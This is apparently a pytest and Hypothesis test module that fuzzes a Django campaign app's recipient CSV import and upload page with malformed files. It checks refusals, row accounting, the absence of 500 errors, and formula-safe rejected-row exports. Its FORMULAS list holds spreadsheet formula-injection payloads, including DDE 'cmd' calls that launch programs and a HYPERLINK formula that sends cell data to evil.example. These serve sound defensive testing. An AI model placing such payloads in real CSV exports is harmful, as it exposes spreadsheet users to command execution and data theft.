"""Malformed recipient CSVs, generated in bulk, through the import service and the
campaign page's upload.

Every file is either refused whole with a reason (nothing saved) or every one of
its rows is imported, dropped as a duplicate or rejected with a reason; the rows
that were fine are kept; the page never answers 500 and reports the same counts
as the service; the rejected-rows CSV offered for download runs no formula in a
spreadsheet.
"""

from __future__ import annotations

import csv
import io
from collections import Counter, defaultdict
from dataclasses import dataclass, field

import pytest
from django.contrib.auth.models import User
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from campaigns.models import Campaign, RecipientImport
from campaigns.recipients import loading
from gupshup_admin.exceptions import ApplicationError
from tests.factories import phones, sim_campaign
from tests.faults.profile import BAD_INPUT
from tests.faults.table import FaultTable

GOOD_NUMBERS = phones(60, start=500)
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
EMPTY = [b"", b"\n", b"\r\n\r\n", b"\xef\xbb\xbf", b"   \n \n", b",,,\n"]
KINDS = (
    "random bytes",
    "empty file",
    "no phone column",
    "bad numbers",
    "wrong encoding",
    "huge line",
    "formula injection",
    "broken quoting",
)
EXAMPLES = 8  # files of each kind
# The file as a whole may be refused only for these (no usable header).
MAY_REFUSE = {"random bytes", "empty file", "no phone column", "broken quoting"}


@dataclass
class CsvCase:
    kind: str
    data: bytes
    rows: int | None  # non-blank data rows as written; None when not known
    good: list[str] = field(default_factory=list)  # E.164 numbers to be kept

    def __repr__(self) -> str:  # hypothesis prints failing cases: keep it short
        data = self.data if len(self.data) < 300 else self.data[:300] + b"..."
        return f"CsvCase({self.kind!r}, {data!r}, rows={self.rows}, good={self.good})"


def _written(header: list[str], rows: list[list[str]], delimiter: str) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(
        [header, *rows]
    )
    return out.getvalue()


def _as_written(phone: str, style: int) -> str:
    """The same number as a marketer might type it."""
    national = phone[3:]
    return [
        phone,
        f"{phone[:3]} {national[:5]} {national[5:]}",
        f"{phone[:3]}-{national}",
        national,
    ][style]


names = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12)
ascii_names = st.builds(  # never blank: the template needs a value
    str.__add__, st.sampled_from("AaZz"), st.text("abcdefghij ABC,;|'\"%", max_size=9)
)
junk_numbers = st.one_of(
    st.text(max_size=16),
    st.text("0123456789+-() ", max_size=20),
    st.sampled_from(["+", "12345", "+999123", "00000000000", "+91 0000 0000"]),
)


@st.composite
def csv_cases(draw: st.DrawFn, kind: str) -> CsvCase:
    if kind == "random bytes":
        return CsvCase(kind, draw(st.binary(min_size=1, max_size=3000)), None)
    if kind == "empty file":
        return CsvCase(kind, draw(st.sampled_from(EMPTY)), 0)
    delimiter = draw(st.sampled_from(",;\t|"))
    phone_column = draw(st.sampled_from(["phone", "Mobile", "MSISDN", "whatsapp"]))
    if kind == "no phone column":
        phone_column = draw(st.sampled_from(["tel", "name", "", "phone number"]))
    header = [phone_column, "name", "offer"]
    good = draw(st.lists(st.sampled_from(GOOD_NUMBERS), max_size=8, unique=True))
    rows: list[list[str]] = [
        [_as_written(p, draw(st.integers(0, 3))), draw(ascii_names), "20%"]
        for p in good
    ]
    bad = _bad_rows(draw, kind)
    rows += bad
    rows = draw(st.permutations(rows))
    text = _written(header, rows, delimiter)
    written = sum(any(cell.strip() for cell in row) for row in rows)  # not blank
    return _encoded(draw, kind, text, written, good)


def _bad_rows(draw: st.DrawFn, kind: str) -> list[list[str]]:
    count = draw(st.integers(0 if kind == "no phone column" else 1, 6))
    if kind == "formula injection":
        formula = st.sampled_from(FORMULAS)
        return [[draw(formula), draw(formula), draw(formula)] for _ in range(count)]
    if kind == "huge line":
        size = draw(st.sampled_from([131_073, 250_000, 1_100_000]))
        return [[draw(junk_numbers), "x" * size, "y"]]
    if kind == "wrong encoding":
        return [[draw(junk_numbers), draw(names), "é ü 漢"] for _ in range(count)]
    return [[draw(junk_numbers), draw(names), draw(names)] for _ in range(count)]


def _encoded(
    draw: st.DrawFn, kind: str, text: str, rows: int, good: list[str]
) -> CsvCase:
    if kind == "wrong encoding":
        codec = draw(st.sampled_from(["cp1252", "latin-1", "utf-16", "mac_roman"]))
        return CsvCase(kind, text.encode(codec, errors="replace"), rows, good)
    data = text.encode("utf-8-sig" if draw(st.booleans()) else "utf-8")
    if kind == "broken quoting":
        at = draw(st.integers(0, len(data)))
        junk = draw(st.sampled_from([b'"', b'"\n"', b"\x00", b"\r", b'""x"']))
        return CsvCase(kind, data[:at] + junk + data[at:], None)
    return CsvCase(kind, data, rows, good)


@dataclass
class Tally:
    files: Counter[str] = field(default_factory=Counter)
    rows: Counter[str] = field(default_factory=Counter)
    refused: Counter[str] = field(default_factory=Counter)
    accepted: Counter[str] = field(default_factory=Counter)
    rejected: Counter[str] = field(default_factory=Counter)
    lost: Counter[str] = field(default_factory=Counter)
    good: Counter[str] = field(default_factory=Counter)
    reasons: dict[str, Counter[str]] = field(
        default_factory=lambda: defaultdict(Counter)
    )


@pytest.fixture
def staff(client: Client, alice: User) -> Client:
    client.force_login(alice)
    return client


def draft(model: Campaign) -> Campaign:
    """A fresh draft campaign like `model` (each example gets its own)."""
    return Campaign.objects.create(
        name="Bad CSV",
        partner_app=model.partner_app,
        kind=model.kind,
        template=model.template,
        media_file=model.media_file,
    )


@pytest.mark.parametrize("kind", KINDS)
def test_a_malformed_csv_is_refused_or_accounted_for_row_by_row_never_a_500(
    kind: str, staff: Client, fault_table: FaultTable
) -> None:
    model = sim_campaign(phones=[])
    tally = Tally()

    @settings(BAD_INPUT, max_examples=EXAMPLES)
    @given(case=csv_cases(kind))
    def check(case: CsvCase) -> None:
        service = _through_the_service(draft(model), case, tally)
        _through_the_page(staff, draft(model), case, service)

    check()
    assert tally.files[kind], f"no {kind} was tried"
    assert not tally.lost[kind], f"{kind}: {tally.lost[kind]} row(s) lost"
    fault, tried, outcome = _row(kind, tally)
    fault_table.record(
        area="CSV import",
        fault=fault,
        tried=tried,
        outcome=outcome,
        lost=tally.lost[kind],
    )


@dataclass(frozen=True)
class Outcome:
    refused: str  # the reason, when the file was refused whole
    counts: tuple[int, int, int] = (0, 0, 0)  # accepted, rejected, duplicates


def _through_the_service(campaign: Campaign, case: CsvCase, tally: Tally) -> Outcome:
    tally.files[case.kind] += 1
    try:
        record = loading.recipients_import(
            campaign=campaign,
            fileobj=io.BytesIO(case.data),
            filename="bad.csv",
            user_id=None,
        )
    except ApplicationError as exc:
        assert exc.message.strip()
        assert case.kind in MAY_REFUSE, f"{case.kind} refused whole: {exc.message}"
        assert not campaign.recipients.exists(), "a refused file saved rows"
        tally.refused[case.kind] += 1
        tally.rows[case.kind] += case.rows or 0
        tally.reasons[case.kind][exc.message.split(".")[0]] += 1
        return Outcome(exc.message)
    kept = set(campaign.recipients.values_list("phone", flat=True))
    accounted = record.accepted + record.duplicates + record.rejected
    rows = accounted if case.rows is None else case.rows
    missing = set(case.good) - kept
    tally.rows[case.kind] += rows
    tally.lost[case.kind] += max(rows - accounted, 0) + len(missing)
    assert len(kept) == record.accepted
    assert accounted == rows, f"{rows} rows, {accounted} accounted for"
    assert not missing, f"good rows not kept: {sorted(missing)}"
    tally.accepted[case.kind] += record.accepted
    tally.good[case.kind] += len(case.good)
    tally.rejected[case.kind] += record.rejected
    _check_rejected_csv(record.rejected_csv, record.rejected)
    return Outcome("", (record.accepted, record.rejected, record.duplicates))


def _check_rejected_csv(text: str, rejected: int) -> None:
    """One row per rejected row, each with its reason, no cell a formula."""
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == (rejected + 1 if rejected else 0)
    for row in rows[1:]:
        assert row[1].strip(), f"no reason: {row}"
        for cell in row:
            runs = cell.startswith(DANGEROUS) and not cell[1:].isdigit()
            assert not runs, f"a spreadsheet would run {cell[:40]!r}"


def _through_the_page(
    client: Client, campaign: Campaign, case: CsvCase, service: Outcome
) -> None:
    upload = SimpleUploadedFile("bad.csv", case.data, content_type="text/csv")
    url = reverse("campaigns:upload", args=[campaign.pk])
    response = client.post(url, {"file": upload, "region": ""})
    assert response.status_code == 302, response.status_code
    # Messages wait in a cookie for the next page; this test never fetches one.
    said = [str(m) for m in get_messages(response.wsgi_request)][-1]
    client.cookies.pop("messages", None)
    if not case.data:
        assert "empty" in said
        return
    if service.refused:
        assert said == service.refused
        return
    accepted, rejected, duplicates = service.counts
    assert said.endswith(
        f": {accepted} accepted, {rejected} rejected, "
        f"{duplicates} duplicate(s) dropped."
    ), said
    if rejected:
        record = RecipientImport.objects.get(campaign=campaign)
        url = reverse("campaigns:rejected_csv", args=[campaign.pk, record.pk])
        download = client.get(url)
        assert download.status_code == 200
        _check_rejected_csv(download.content.decode("utf-8-sig"), rejected)


FAULTS = {
    "random bytes": "Random bytes uploaded as a CSV",
    "empty file": "Empty file (0 bytes, blank lines, a BOM alone, commas only)",
    "no phone column": "No phone column in the header row",
    "bad numbers": "Bad phone numbers (random text, too short, unknown country)",
    "wrong encoding": "Wrong encoding (cp1252, Latin-1, Mac Roman, UTF-16)",
    "huge line": "Huge lines (one value of 128 KiB to 1 MB)",
    "formula injection": "Formula injection (=cmd|…, +…, -…, @…, tab- or CR-led) "
    "in every column",
    "broken quoting": "Broken quoting and stray bytes (unterminated quote, NUL, "
    "bare CR)",
}


def _row(kind: str, tally: Tally) -> tuple[str, str, str]:
    """(fault, tried, outcome) for the fault table."""
    tried = (
        f"{tally.files[kind]} files, {tally.rows[kind]} rows, each through the "
        "import service and the campaign page"
    )
    said = []
    if tally.refused[kind]:
        reasons = "; ".join(
            f"{n}× “{reason}”" for reason, n in sorted(tally.reasons[kind].items())
        )
        said.append(f"{tally.refused[kind]} refused whole with the reason ({reasons})")
    if tally.accepted[kind] or tally.rejected[kind]:
        said.append(
            f"{tally.accepted[kind]} rows imported, {tally.rejected[kind]} rejected "
            "with a reason (none a live formula in the rejected-rows CSV)"
        )
    if tally.good[kind]:
        said.append(f"all {tally.good[kind]} well-formed rows kept")
    said.append("the page never answered 500")
    return FAULTS[kind], tried, "; ".join(said)
